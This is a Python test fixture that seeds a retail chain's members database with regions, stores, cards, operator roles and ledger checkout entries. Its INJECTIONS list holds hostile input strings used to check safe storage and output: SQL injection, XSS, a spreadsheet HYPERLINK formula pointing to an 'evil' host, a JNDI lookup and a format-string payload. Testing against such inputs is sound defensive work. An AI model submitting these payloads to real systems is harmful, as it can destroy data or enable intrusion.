"""A small chain for the members tests: two regions, three stores, a card registry shaped
as the members domain expects it (hq_server.members.card_link), and ledger entries."""

from __future__ import annotations

from sqlalchemy import insert

from hq_server.db.tables import devices, records, regions, stores
from hq_server.ledger.accounts import CNY, Entry
from hq_server.ledger.writer import LedgerTransaction, post
from hq_server.members.card_link import CARD_REGISTRY
from hq_server.operators.access import Actor, Level, Scope

NOW = 1_796_000_000_000  # 2026-11-30
ADMIN = Actor("alice", "hq_admin", Scope(Level.CHAIN), "test")
CASHIER_S1 = Actor("carol", "cashier", Scope(Level.STORE, "S1"), "test")
CASHIER_S2 = Actor("dave", "cashier", Scope(Level.STORE, "S2"), "test")
MANAGER_S1 = Actor("erin", "store_manager", Scope(Level.STORE, "S1"), "test")
REGION_EAST = Actor("frank", "region_manager", Scope(Level.REGION, "EAST"), "test")
AUDITOR = Actor("gina", "auditor", Scope(Level.CHAIN), "test")

#: What hostile operators type: stored verbatim, harmless on output.
INJECTIONS = ["'; DROP TABLE members;--", "<script>alert('x')</script>",
              "\" OR 1=1 --", "<img src=x onerror=alert(1)>", "Robert'); DELETE FROM cards;--",
              "=HYPERLINK(\"http://evil\")", "${jndi:ldap://x}", "%s%s%n"]


def seed_chain(engine) -> None:
    with engine.begin() as conn:
        conn.execute(insert(regions), [{"region_id": "EAST", "name": "East", "created_at_ms": 1},
                                       {"region_id": "WEST", "name": "West", "created_at_ms": 1}])
        conn.execute(insert(stores), [
            {"store_id": "S1", "name": "Hot spring", "region_id": "EAST", "created_at_ms": 1},
            {"store_id": "S2", "name": "Pool", "region_id": "EAST", "created_at_ms": 1},
            {"store_id": "S3", "name": "Gym", "region_id": "WEST", "created_at_ms": 1}])


def give_card(engine, card_id: str, member_id: str | None, store_id: str = "S1") -> None:
    with engine.begin() as conn:
        conn.execute(insert(CARD_REGISTRY).values(card_id=card_id, member_id=member_id,
                                                  state="open", product="stored-value",
                                                  issuing_store=store_id, first_seen_ms=1,
                                                  updated_at_ms=1))


def post_checkout(engine, card_id: str, seq: int, spend_fen: int, device_time_ms: int,
                  store: str = "S1", kind: str = "debit") -> None:
    """A card recharged and then spending ``spend_fen`` at ``store`` (as ingest posts it),
    with the device's record behind the spend."""
    with engine.begin() as conn:
        if conn.execute(devices.select().where(devices.c.device_id == "T1")).first() is None:
            conn.execute(insert(devices).values(device_id="T1", public_key="00" * 32,
                                                store=store, registered_at_ms=1))
        conn.execute(insert(records).values(
            device_id="T1", seq=seq, record_hash=bytes(32), prev_hash=bytes(32), wire=b"x",
            card_id=card_id, operation=4, card_counter=seq, device_time_ms=device_time_ms,
            received_at_ms=device_time_ms, status="posted"))
        post(conn, [
            LedgerTransaction(f"T1#{seq}r", "recharge", store, [
                Entry(f"store:{store}:cash", CNY, spend_fen),
                Entry(f"card:{card_id}:purse", CNY, -spend_fen)], card_id=card_id),
            LedgerTransaction(f"T1#{seq}", kind, store, [
                Entry(f"card:{card_id}:purse", CNY, spend_fen),
                Entry(f"store:{store}:revenue:general", CNY, -spend_fen)],
                device_id="T1", seq=seq, card_id=card_id)], device_time_ms)
